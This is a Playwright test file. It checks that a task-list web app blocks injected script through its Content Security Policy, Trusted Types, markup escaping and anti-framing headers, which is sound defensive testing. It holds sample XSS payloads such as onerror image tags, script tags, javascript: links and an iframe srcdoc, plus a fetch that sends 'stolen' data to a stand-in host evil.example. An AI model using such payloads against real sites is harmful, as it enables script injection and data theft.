import type { Page } from '@playwright/test';
import { expect, test } from './stage/test.ts';

/** Notes what the page's policy stops, from the page's first moment on. */
async function noteViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const noted: string[] = [];
    Object.assign(globalThis, { noted });
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      noted.push(`${violatedDirective} ${blockedURI}`);
    });
  });
}

function notedViolations(page: Page): Promise<string[]> {
  return page.evaluate(() => (globalThis as unknown as { noted: string[] }).noted);
}

test('the app runs under its policy: Trusted Types, no inline script, and its service worker', async ({
  open,
  server,
  rest,
}) => {
  const task = await rest.add('Pay rent', { notes: '**by transfer**, see [the lease](https://example.com/lease)' });
  const page = await open();
  await noteViolations(page);
  for (const path of ['/today', '/inbox', `/inbox?task=${task.id}`, '/today']) {
    await page.goto(server.url + path);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    expect(await notedViolations(page)).toEqual([]);
  }
  const script = await page.evaluate(async () => (await navigator.serviceWorker.ready).active?.scriptURL);
  expect(script).toBe(`${server.url}/sw.js`);
  expect(await notedViolations(page)).toEqual([]);
});

test.describe('what somebody got into the page', () => {
  test.use({
    expectedComplaints:
      /Content Security Policy|TrustedHTML|TrustedScript|Trusted Type|TrustedType|ERR_BLOCKED_BY|violates the following/,
  });

  test('is not run, and takes nothing out of it', async ({ open, server }) => {
    const page = await open();
    await noteViolations(page);
    await page.goto(`${server.url}/today`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const tried = await page.evaluate(async () => {
      const globals = globalThis as unknown as Record<string, (text: string) => unknown>;
      const attempts: Readonly<Record<string, () => unknown>> = {
        markup: () => {
          document.createElement('div').innerHTML = '<img src=x onerror="hacked = true">';
        },
        evaluation: () => globals['eval']?.('hacked = true'),
        'a function from text': () => globals['Function']?.('hacked = true'),
        'a policy of its own': () =>
          (
            globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
          ).trustedTypes.createPolicy('own', {}),
        'a script’s address': () => {
          document.createElement('script').src = 'https://evil.example/x.js';
        },
        'sending away': () => fetch('https://evil.example/?stolen'),
      };
      const answers: Record<string, string> = {};
      // Out of the debugger's own turn, in which text may be run.
      await new Promise((resolve) => setTimeout(resolve));
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt();
          answers[name] = 'done';
        } catch {
          answers[name] = 'stopped';
        }
      }
      const inline = document.createElement('script');
      inline.append('hacked = true');
      document.body.append(inline);
      answers['an inline script'] = 'hacked' in globalThis ? 'done' : 'stopped';
      return answers;
    });
    expect(Object.entries(tried).filter(([, answer]) => answer !== 'stopped')).toEqual([]);
    // The listener hears of it, so the test above would.
    expect((await notedViolations(page)).length).toBeGreaterThanOrEqual(Object.keys(tried).length - 1);
  });
});

test('markup in titles and notes is words', async ({ open, rest }) => {
  const title = '<img src=x onerror="hacked=1"> rent';
  const notes =
    '<script>hacked=1</script>\n\n[lease](javascript:hacked=1)\n\n<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>';
  const task = await rest.add(title, { notes });
  const page = await open({ path: `/inbox?task=${task.id}` });
  await expect(page.getByText(title).first()).toBeVisible();
  await expect(page.locator('a[href^="javascript"], iframe, main img[src="x"]')).toHaveCount(0);
  expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
});

test('no other page may frame it', async ({ open, server }) => {
  const page = await open();
  const headers = (await page.request.get(`${server.url}/today`, { headers: { accept: 'text/html' } })).headers();
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(headers['x-frame-options']).toBe('DENY');
  expect(headers['cross-origin-opener-policy']).toBe('same-origin');
  expect(headers['permissions-policy']).toContain('camera=()');
});
